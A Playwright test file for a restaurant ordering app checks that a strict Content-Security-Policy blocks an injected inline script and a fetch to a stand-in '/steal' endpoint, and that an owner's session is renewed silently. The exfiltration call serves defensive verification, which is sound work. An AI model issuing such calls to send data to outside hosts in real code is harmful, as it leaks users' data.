// Issue 11 point 6 in a real browser: the built pages carry a strict Content-Security-Policy
// that the app itself never violates (guest menu, owner pages, realtime, service worker), which
// blocks an injected inline script and a connection to another origin; and an active owner's
// short-lived session is renewed silently.
import { expect, test, type Page } from "@playwright/test";
import { newOwner, signInPage } from "./owner-session";

declare global {
  interface Window {
    __csp: string[];
    __inlineRan?: boolean;
  }
}

async function recordViolations(page: Page) {
  await page.addInitScript(() => {
    window.__csp = [];
    document.addEventListener("securitypolicyviolation", (e) => window.__csp.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
}

test("the app's pages carry the CSP and never violate it; inline scripts and other origins are blocked", async ({ page }) => {
  await recordViolations(page);
  await page.goto("/demo/1");
  await expect(page.getByRole("heading", { name: "Demo Bistro" })).toBeVisible();
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content");
  expect(csp).toContain("script-src 'self'");
  expect(csp).toContain("connect-src 'self'");
  expect(csp).not.toContain("unsafe-eval");
  expect(csp).not.toMatch(/script-src[^;]*unsafe-inline/);

  const owner = await newOwner("csp");
  await signInPage(page, owner);
  for (const path of ["/orders", "/tablesqr", "/editmenu", "/storage", "/settings", "/finished-orders", "/help"]) {
    await page.goto(path);
    await page.waitForLoadState("networkidle");
  }
  expect(await page.evaluate(() => window.__csp)).toEqual([]);

  // What an injected script (e.g. through a stored XSS) would try: both are refused.
  const ran = await page.evaluate(() => {
    const s = document.createElement("script");
    s.textContent = "window.__inlineRan = true";
    document.head.appendChild(s);
    return window.__inlineRan === true;
  });
  expect(ran).toBe(false);
  const exfil = await page.evaluate(() =>
    fetch("http://127.0.0.2:9/steal").then(
      () => "sent",
      () => "blocked",
    ),
  );
  expect(exfil).toBe("blocked");
  const violations = await page.evaluate(() => window.__csp);
  expect(violations.some((v) => v.startsWith("script-src"))).toBe(true);
  expect(violations.some((v) => v.startsWith("connect-src"))).toBe(true);
});

test("an owner who keeps the app open gets the session renewed silently", async ({ page }) => {
  await page.clock.install();
  const owner = await newOwner("refresh");
  await signInPage(page, owner);
  const refreshes: string[] = [];
  page.on("request", (r) => {
    if (r.url().includes("/api/collections/users/auth-refresh")) refreshes.push(r.url());
  });
  await page.goto("/orders");
  await page.waitForLoadState("networkidle");
  const before = refreshes.length; // the page's own session check
  const tokenBefore = await page.evaluate(() => JSON.parse(localStorage.getItem("draft_session") || "{}").token as string);
  await page.clock.runFor(16 * 60 * 1000);
  await expect.poll(() => refreshes.length).toBeGreaterThan(before);
  await expect
    .poll(() => page.evaluate(() => JSON.parse(localStorage.getItem("draft_session") || "{}").token as string))
    .not.toBe(tokenBefore);
  await expect(page).toHaveURL(/\/orders$/);
});
